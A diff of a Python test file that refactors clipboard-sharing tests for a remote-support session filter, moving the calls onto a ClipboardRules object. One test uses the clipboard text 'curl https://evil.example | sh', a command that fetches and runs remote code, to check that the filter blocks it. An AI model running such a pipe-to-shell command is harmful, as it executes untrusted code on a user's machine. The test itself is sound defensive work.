@@ -42,10 +42,15 @@ from codec.wire.messages import (
     Withdraw,
 )
 from codec.wire.permits import Function
+from codec.wire.tools import ToolName
 from console.page.messages import Event
-from console.session.message_filter import KEPT, LATE_SECONDS, MESSAGES, MOST_OVERSTEPS, MessageFilter, Verdict
+from console.session.message_filter import LATE_SECONDS, MESSAGES, MOST_OVERSTEPS, MessageFilter
+from console.tools.base import Verdict
+from console.tools.clipboard import ClipboardRules
 
 EVERYTHING = frozenset(Function)
+assert Chat.declared.at_most is not None
+KEPT = Chat.declared.at_most
 VIEW, CONTROL, CLIPBOARD, RECORD = Access
 SCREEN = Display(0, "screen", 0, 0, 64, 48)
 
@@ -66,6 +71,12 @@ class Session:
 
     def __post_init__(self) -> None:
         self.filter = MessageFilter(self.functions, self.now)
+
+    @property
+    def clipboard(self) -> ClipboardRules:
+        rules = self.filter.rules[ToolName.CLIPBOARD]
+        assert isinstance(rules, ClipboardRules)
+        return rules
 
     def hear(self, message: SessionMessage) -> Verdict:
         return self.filter.admit(message, self.now)
@@ -101,12 +112,12 @@ def test_f12_a_grant_that_nobody_asked_for_is_nothing_and_is_given_back() -> Non
 
 def test_f12_what_the_group_forbids_is_never_granted_though_the_applet_says_so() -> None:
     session = Session(EVERYTHING - {Function.CLIPBOARD})
-    session.filter.share_clipboard(True)
+    session.clipboard.share(True)
     session.ask(CONTROL, VIEW, CONTROL, CLIPBOARD)
     assert session.filter.granted == {VIEW, CONTROL}
     session.ask(CLIPBOARD, VIEW, CONTROL, CLIPBOARD)
     assert session.filter.granted == {VIEW, CONTROL}
-    assert not session.filter.shares_clipboard
+    assert not session.clipboard.shares
     assert not session.passes(ClipboardText("curl https://evil.example | sh"))
     assert not session.say(ClipboardText("hunter2"))
 
@@ -116,10 +127,10 @@ def test_f12_the_clipboard_flows_only_while_the_technician_wants_it_too() -> Non
     session.ask(CONTROL, VIEW, CONTROL, CLIPBOARD)
     assert not session.passes(ClipboardText("theirs"))
     assert not session.say(ClipboardText("ours"))
-    session.filter.share_clipboard(True)
+    session.clipboard.share(True)
     assert session.passes(ClipboardText("theirs"))
     assert session.say(ClipboardText("ours"))
-    session.filter.share_clipboard(False)
+    session.clipboard.share(False)
     assert not session.passes(ClipboardText("theirs"))
     assert not session.say(ClipboardText("ours"))
 
@@ -128,21 +139,21 @@ def test_the_switch_waits_for_the_answer_and_falls_back_with_a_no() -> None:
     session = Session()
     session.ask(VIEW, VIEW)
     for allowed, flows in (((VIEW, CLIPBOARD), True), ((VIEW,), False)):
-        session.filter.share_clipboard(True)
+        session.clipboard.share(True)
         session.ask(CLIPBOARD, *allowed)
-        assert session.filter.clipboard_flows is flows
-        assert session.filter.shares_clipboard is flows
+        assert session.clipboard.flows is flows
+        assert session.clipboard.shares is flows
         session.say(Release(CLIPBOARD))
-        assert not session.filter.shares_clipboard
+        assert not session.clipboard.shares
         session.hear(Granted(frozenset({VIEW})))
 
 
 def test_a_clipboard_that_the_group_forbids_from_now_on_ends_at_once() -> None:
     session = Session()
     session.ask(CLIPBOARD, VIEW, CLIPBOARD)
-    session.filter.share_clipboard(True)
+    session.clipboard.share(True)
     assert session.filter.permit(EVERYTHING - {Function.CLIPBOARD})
-    assert not session.filter.clipboard_flows
+    assert not session.clipboard.flows
     assert session.filter.granted == {VIEW}
     assert not session.filter.permit(EVERYTHING - {Function.CLIPBOARD})
 
@@ -420,7 +431,7 @@ def test_nothing_passes_that_was_not_asked_permitted_and_said(
                 session.filter.start_over()
             case "switch":
                 oracle.wanted = step
-                session.filter.share_clipboard(step)
+                session.clipboard.share(step)
             case "ours":
                 oracle.says(step, session.say(step))
             case "theirs":
